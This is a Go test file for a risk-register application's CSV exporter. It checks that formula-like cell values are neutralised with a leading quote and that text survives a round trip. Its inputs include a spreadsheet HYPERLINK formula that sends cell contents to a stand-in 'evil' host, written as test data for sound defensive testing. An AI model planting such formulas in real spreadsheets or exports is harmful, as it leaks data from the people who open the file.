package csvio

import (
	"bytes"
	"encoding/csv"
	"strconv"
	"strings"
	"testing"
	"time"

	"github.com/riskreg/riskreg/app/risk"
)

func TestSafeCell(t *testing.T) {
	for in, want := range map[string]string{
		`=HYPERLINK("http://x/?"&A1,"click")`: `'=HYPERLINK("http://x/?"&A1,"click")`,
		"+1":                                  "'+1",
		"-2+3":                                "'-2+3",
		"@SUM(A1)":                            "'@SUM(A1)",
		"\tcmd":                               "'\tcmd",
		"\rcmd":                               "'\rcmd",
		"   =1+1":                             "'   =1+1",
		"  @x":                                "'  @x",
		"\x00x":                               "'\x00x",
		"Plain title":                         "Plain title",
		"a=b":                                 "a=b",
		"":                                    "",
		"   ":                                 "   ",
	} {
		if got := SafeCell(in); got != want {
			t.Errorf("SafeCell(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestWriterNeutralisesAndParses writes formula-like text in every user
// text column and reads the file back with encoding/csv.
func TestWriterNeutralisesAndParses(t *testing.T) {
	evil := []string{`=HYPERLINK("http://evil/?"&A1,"click")`, "+1", "-2+3", "@SUM(A1)", "\tTAB", "\rCR", "  =1+2", "say \"hi\", ok\nnext line"}
	var buf bytes.Buffer
	w, err := NewWriter(&buf, true)
	if err != nil {
		t.Fatal(err)
	}
	lvl := 1
	m := risk.DefaultMatrix()
	due := time.Date(2026, 12, 31, 0, 0, 0, 0, time.UTC)
	for i, s := range evil {
		r := &risk.Risk{Number: int64(i + 1), ID: "id", Version: i + 3, Title: s, Description: s, Category: "technology", Status: "open",
			Probability: 3, Impact: 4, ResidualProbability: 1, ResidualImpact: 2, InherentLevel: &lvl, DueDate: &due,
			Tags: []string{s, "b"}, Assignee: &risk.Person{Name: s, Email: "a@example.com"}}
		if err := w.Write(&Record{Risk: r, Matrix: &m, TreatmentType: "mitigate", TreatmentDescription: s, OpenTasks: 2}); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	body, ok := strings.CutPrefix(buf.String(), BOM)
	if !ok {
		t.Fatal("no BOM")
	}
	recs, err := csv.NewReader(strings.NewReader(body)).ReadAll()
	if err != nil {
		t.Fatalf("the export does not parse: %v", err)
	}
	if len(recs) != len(evil)+1 || strings.Join(recs[0], ",") != strings.Join(Columns, ",") {
		t.Fatalf("got %d records, header %v", len(recs), recs[0])
	}
	col := map[string]int{}
	for i, c := range Columns {
		col[c] = i
	}
	for i, rec := range recs[1:] {
		for _, c := range []string{"title", "description", "assignee_name", "treatment_description"} {
			v := rec[col[c]]
			if strings.ContainsAny(strings.TrimLeft(v, " ")[:1], "=+-@\t\r") {
				t.Errorf("row %d %s = %q is not neutralised", i+1, c, v)
			}
			if want := SafeCell(evil[i]); v != want {
				t.Errorf("row %d %s = %q, want %q", i+1, c, v, want)
			}
		}
		if rec[col["tags"]] != SafeCell(evil[i]+";b") {
			t.Errorf("tags = %q", rec[col["tags"]])
		}
		if rec[col["inherent_score"]] != "12" || rec[col["residual_score"]] != "2" || rec[col["inherent_level"]] != m.LevelAt(1).Name ||
			rec[col["due_date"]] != "2026-12-31" || rec[col["open_tasks"]] != "2" || rec[col["identifier"]] != risk.FormatIdentifier(int64(i+1)) ||
			rec[col["version"]] != strconv.Itoa(i+3) {
			t.Errorf("row %d = %q", i+1, rec)
		}
	}
}

// fidelityValues are texts a register may store that a CSV round trip
// must keep exactly: line breaks of every kind, the separators of both
// locales, quotes, leading and trailing spaces, formula characters and
// characters outside ASCII.
var fidelityValues = []string{
	"a\nb", "a\r\nb", "lone\rCR", "a\n\nb\r\n", "x;=1+1", "=SUM(A1;B1)", ";", "1,5;2,5",
	`say "hi", ok`, `"`, `""`, "  leading spaces", "trailing ", "\ttab", "-2+3", "@x", "'quoted",
	"é ü 中文 😀", "",
}

// writeExport writes one risk per value, the value in every free-text column.
func writeExport(t *testing.T, values []string) string {
	t.Helper()
	var buf bytes.Buffer
	w, err := NewWriter(&buf, true)
	if err != nil {
		t.Fatal(err)
	}
	for i, v := range values {
		r := &risk.Risk{Number: int64(i + 1), Version: i + 1, Title: v, Description: v, Category: "technology", Status: "open",
			Tags: []string{"tag one", "ü"}, Assignee: &risk.Person{Name: v, Email: "a@example.com"}}
		if err := w.Write(&Record{Risk: r, TreatmentType: "mitigate", TreatmentDescription: v}); err != nil {
			t.Fatal(err)
		}
	}
	if err := w.Flush(); err != nil {
		t.Fatal(err)
	}
	return buf.String()
}

// TestExportRoundTrip: what the Writer writes, Read reads back with every
// character as it was stored.
func TestExportRoundTrip(t *testing.T) {
	rows, err := Read(strings.NewReader(writeExport(t, fidelityValues)))
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(fidelityValues) {
		t.Fatalf("%d rows, want %d", len(rows), len(fidelityValues))
	}
	for i, v := range fidelityValues {
		for _, c := range []string{"title", "description", "assignee_name", "treatment_description"} {
			if got := rows[i].Fields[c]; got != v {
				t.Errorf("%s written as %q reads back as %q", c, v, got)
			}
		}
		if got := rows[i].Fields["tags"]; got != "tag one;ü" {
			t.Errorf("tags read back as %q", got)
		}
		if got := rows[i].Fields["version"]; got != strconv.Itoa(i+1) {
			t.Errorf("version %d read back as %q", i+1, got)
		}
	}
}

// TestWriterKeepsLineBreaks: a line break inside a field is written as
// stored; only records end with CRLF.
func TestWriterKeepsLineBreaks(t *testing.T) {
	out := writeExport(t, []string{"a\nb", "c\r\nd", "lone\rCR"})
	for _, want := range []string{",\"a\nb\",", ",\"c\r\nd\",", ",\"lone\rCR\","} {
		if !strings.Contains(out, want) {
			t.Errorf("the export lacks %q:\n%q", want, out)
		}
	}
	if strings.Contains(out, "a\r\nb") {
		t.Errorf("LF inside a field written as CRLF:\n%q", out)
	}
	// writeExport puts each value in 4 columns: "c\r\nd" brings 4 CRLFs.
	if !strings.HasSuffix(out, "\r\n") || strings.Count(out, "\r\n") != 1+3+4 {
		t.Errorf("want CRLF after the header and each of the 3 records, and in the 4 cells that store one:\n%q", out)
	}
}

// TestWriterQuotesSemicolons: every ';' of an export is inside a quoted
// field (see needsQuotes for what that does for spreadsheets that split
// cells at ';'), and a cell that starts with a formula character keeps its
// neutralising quote.
func TestWriterQuotesSemicolons(t *testing.T) {
	out := writeExport(t, []string{"x;=1+1", "=SUM(A1;B1)", "plain"})
	quoted := false
	for i, c := range out {
		switch {
		case c == '"':
			quoted = !quoted
		case c == ';' && !quoted:
			t.Errorf("unquoted ';' at byte %d: %q", i, out[max(0, i-20):min(len(out), i+20)])
		}
	}
	for _, want := range []string{`,"x;=1+1",`, `,"'=SUM(A1;B1)",`, `,"tag one;ü",`} {
		if !strings.Contains(out, want) {
			t.Errorf("the export lacks %s:\n%q", want, out)
		}
	}
}
